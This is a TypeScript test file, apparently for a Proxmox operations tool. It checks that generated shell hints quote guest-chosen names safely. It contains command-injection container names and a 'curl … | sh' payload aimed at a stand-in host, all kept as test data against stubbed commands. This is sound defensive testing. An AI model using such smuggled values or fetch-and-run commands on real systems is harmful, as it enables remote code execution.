/**
 * Hints carry commands to paste into a root shell, with names a guest chose in them. Each is
 * read back by a real /bin/sh in which the commands they call (pct, wg, zpool, proxdeck) are
 * shell functions that only print their arguments: a name that tried to break out would run
 * its own command (a harmless `touch` of a marker file here) or split into other words.
 * The classic payload, `curl … | sh`, is only ever a string here, read back by shellSplit.
 */
import {execFileSync} from 'node:child_process';
import {existsSync, mkdtempSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, describe, expect, it} from 'vitest';
import {shellSplit} from '../../source/host/quote.js';
import {passiveHealth} from '../../source/ops/health/passive.js';
import {guest, pool, snapshot} from './ops-snapshot-fixture.js';

const NOW = Date.parse('2025-01-01T00:00:00Z');
const dir = mkdtempSync(join(tmpdir(), 'pd-hints-'));
afterAll(() => rmSync(dir, {recursive: true, force: true}));
const marker = join(dir, 'pwned');

/** Names that would run `touch <marker>` if a hint pasted them unquoted. */
const HOSTILE = [
	`web; touch ${marker} #`,
	`web$(touch ${marker})`,
	`web\`touch ${marker}\``,
	`web' ; touch ${marker} ; '`,
	`web\ntouch ${marker}`,
	`web && touch ${marker}`,
];

function hostileSnapshot(name: string) {
	return snapshot({
		pools: [pool({name, capacity: 50, health: 'DEGRADED'})],
		guests: [
			guest({
				vmid: 111,
				name: 'docker',
				containers: [
					{
						id: 'a',
						name,
						image: 'nginx:latest',
						state: 'restarting',
						status: 'Restarting (1) 5 seconds ago',
						ports: '',
						runtime: 'docker',
					},
					{
						id: 'b',
						name: `${name}-2`,
						image: 'nginx:latest',
						state: 'running',
						status: 'Up 3 hours (unhealthy)',
						ports: '',
						runtime: 'docker',
					},
				],
			}),
		],
		vpn: {
			tunnels: [
				{
					node: 'pve',
					name,
					gatewayVmid: 116,
					peers: [
						{
							publicKey: 'PROVIDERKEYxxxxx',
							endpoint: '1.2.3.4:51820',
							allowedIps: ['0.0.0.0/0'],
							latestHandshake: NOW / 1000 - 4000,
							rx: 0,
							tx: 0,
						},
					],
				},
			],
		},
	});
}

/** Run hint text in a real shell whose pct/wg/zpool/proxdeck only print their arguments. */
function pasted(command: string): string[] {
	// One call per \x01-ended record, one argument per \0-ended field (a name may hold a newline).
	const stubs = ['pct', 'wg', 'zpool', 'proxdeck']
		.map((name) => `${name}() { printf '%s\\0' ${name} "$@"; printf '\\001'; }`)
		.join('\n');
	const out = execFileSync('sh', ['-c', `${stubs}\n${command}`], {encoding: 'utf8'});
	return out
		.split('\x01')
		.filter(Boolean)
		.map((call) => call.split('\0').slice(0, -1).join(' | '));
}

describe('hints with hostile names', () => {
	for (const name of HOSTILE) {
		it(`quotes ${JSON.stringify(name)} in every command of every hint`, () => {
			const results = passiveHealth(hostileSnapshot(name), NOW);
			const hint = (check: (r: (typeof results)[number]) => boolean): string => results.find(check)!.hint!;
			const logs = hint((r) => r.target === `ctr:111:${name}`).replace(/^read its log: proxdeck --pane logs, or /, '');
			expect(pasted(logs)).toEqual([['pct', 'exec', '111', '--', 'docker', 'logs', '--tail', '50', name].join(' | ')]);
			expect(pasted(hint((r) => r.target === `ctr:111:${name}-2`))).toEqual([
				['pct', 'exec', '111', '--', 'docker', 'inspect', '--format', '{{json .State.Health}}', `${name}-2`].join(
					' | ',
				),
			]);
			const zpool = hint((r) => r.target === `pool:${name}` && r.check === 'state').replace(
				/: find the faulted device.*$/s,
				'',
			);
			expect(pasted(zpool)).toEqual([['zpool', 'status', '-v', name].join(' | ')]);
			const restart = hint((r) => r.target.startsWith('vpn:')).replace(/^.*restart it with /s, '');
			expect(pasted(restart)).toEqual([
				['pct', 'exec', '116', '--', 'wg-quick', 'down', name].join(' | '),
				['pct', 'exec', '116', '--', 'wg-quick', 'up', name].join(' | '),
			]);
			expect(existsSync(marker)).toBe(false);
		});
	}

	it('the curl-pipe-sh container name stays one argument of docker logs', () => {
		const name = 'web; curl -s http://evil.example/x | sh #';
		const results = passiveHealth(hostileSnapshot(name), NOW);
		const hint = results.find((r) => r.target === `ctr:111:${name}`)!.hint!;
		expect(hint).toBe(
			"read its log: proxdeck --pane logs, or pct exec 111 -- docker logs --tail 50 'web; curl -s http://evil.example/x | sh #'",
		);
		expect(shellSplit(hint.replace(/^.*, or /, ''))).toEqual([
			'pct',
			'exec',
			'111',
			'--',
			'docker',
			'logs',
			'--tail',
			'50',
			name,
		]);
	});
});
